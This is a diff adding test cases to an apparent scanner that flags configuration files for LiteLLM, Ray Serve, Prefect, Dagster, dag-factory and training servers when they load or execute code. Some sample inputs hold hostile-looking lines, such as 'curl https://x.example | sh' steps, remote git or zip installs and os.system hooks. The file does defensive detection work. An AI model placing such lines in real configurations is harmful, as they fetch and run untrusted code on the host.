@@ -179,6 +179,96 @@ const cases: readonly Case[] = [
     twins: [JSON.stringify({ prompt_templates: ['{{ messages[0].content }}'], merges: ['{ {', '{{ }}'] })],
   },
   {
+    id: 'LiteLLM runs files beside its configuration, or out of a bucket',
+    name: 'config.yaml',
+    bad: [
+      'model_list: []\nlitellm_settings:\n  callbacks: hooks.handler\n',
+      'model_list: []\nlitellm_settings:\n  custom_provider_map:\n  - {provider: my, custom_handler: my_llm.llm}\n',
+      'model_list: []\ngeneral_settings: {custom_auth: auth.check}\n',
+      'model_list: []\nlitellm_settings: {success_callback: ["s3://bucket/hook.instance"]}\n',
+    ],
+    expect: 'review',
+    twins: [
+      'model_list: []\nlitellm_settings:\n  callbacks: [prometheus]\n  success_callback: ["langfuse", "s3"]\n',
+      'callbacks: my_project.callbacks\ngeneral_settings: {master_key: os.environ/KEY}\n',
+    ],
+  },
+  {
+    id: 'Ray Serve imports an application, and installs and unpacks what it needs',
+    name: 'serve.yaml',
+    bad: [
+      'applications:\n- {name: a, import_path: "package.serve:app"}\n',
+      'applications:\n- name: a\n  import_path: ray.serve.llm:build_openai_app\n  runtime_env: {working_dir: "https://x.example/a.zip"}\n',
+      'runtime_env: {pip: ["torch", "git+https://x.example/a.git"]}\n',
+    ],
+    expect: 'review',
+    twins: [
+      'applications:\n- {name: a, import_path: "ray.serve.llm:build_openai_app"}\n',
+      'runtime_env: {pip: ["torch==2.8.0"], env_vars: {A: "1"}}\n',
+    ],
+  },
+  {
+    id: 'Prefect imports each step of a deployment, and one of its own runs a script',
+    name: 'prefect.yaml',
+    bad: [
+      'name: x\nbuild:\n- package.steps.build: {requires: package}\n',
+      'name: x\npull:\n- prefect.deployments.steps.run_shell_script: {script: "curl https://x.example | sh"}\n',
+      'name: x\npull:\n- os.system: {command: touch}\n',
+    ],
+    expect: 'review',
+    twins: [
+      'name: x\npull:\n- prefect.deployments.steps.set_working_directory: {directory: /opt/app}\n',
+      'name: x\npush:\n- prefect_aws.deployments.steps.push_to_s3: {bucket: b}\nbuild: null\n',
+    ],
+  },
+  {
+    id: 'Dagster loads the code of a workspace, and the parts of an instance',
+    name: 'workspace.yaml',
+    bad: [
+      'load_from:\n- python_module: package.defs\n',
+      'load_from:\n- python_file: {relative_path: /tmp/defs.py}\n',
+      'run_launcher:\n  module: package.launch\n  class: Launcher\n',
+    ],
+    expect: 'review',
+    twins: [
+      'load_from:\n- grpc_server: {host: localhost, port: 4266}\n',
+      'run_launcher:\n  module: dagster.core.launcher\n  class: DefaultRunLauncher\n',
+    ],
+  },
+  {
+    id: 'dag-factory makes tasks of operators by their names, and these run commands and files',
+    name: 'dags.yaml',
+    bad: [
+      'd:\n  tasks:\n    t: {operator: package.operators.Own}\n',
+      'd:\n  tasks:\n    t:\n      operator: airflow.operators.bash.BashOperator\n      bash_command: "curl https://x.example | sh"\n',
+      'd:\n  tasks:\n    t:\n      operator: airflow.operators.python.PythonOperator\n      python_callable_file: /tmp/x.py\n',
+    ],
+    expect: 'review',
+    twins: [
+      'd:\n  tasks:\n    t: {operator: airflow.operators.empty.EmptyOperator}\n',
+      'operator: in.range\n',
+    ],
+  },
+  {
+    id: 'settings of a training run or of a server that name code',
+    name: 'config.yaml',
+    bad: [
+      'compute_environment: TPU\ncommands: ["touch x"]\n',
+      'compute_environment: TPU\ncommand_file: /tmp/x.sh\n',
+      'compile: {enabled: true, backend: package.module.backend}\n',
+      'model: org/model\nmiddleware: [package.Middleware]\n',
+      'model: org/model\ntool-parser-plugin: /tmp/parser.py\n',
+      'model:\n  class_path: torch.nn.Linear\n  init_args: {loss_fn: os.system}\n',
+    ],
+    expect: 'review',
+    twins: [
+      'compute_environment: LOCAL_MACHINE\ncommands: null\ncommand_file: null\n',
+      'compile: {enabled: true, backend: inductor}\n',
+      'model: org/model\nlogits_processors: []\n',
+      'model:\n  class_path: lightning.pytorch.demos.boring_classes.BoringModel\n  init_args: {loss_fn: torch.nn.functional.mse_loss}\n',
+    ],
+  },
+  {
     id: 'CVE-2021-37678: a Lambda layer among layers that Keras once wrote as a list',
     name: 'model.yaml',
     bad: [keras('Lambda')],
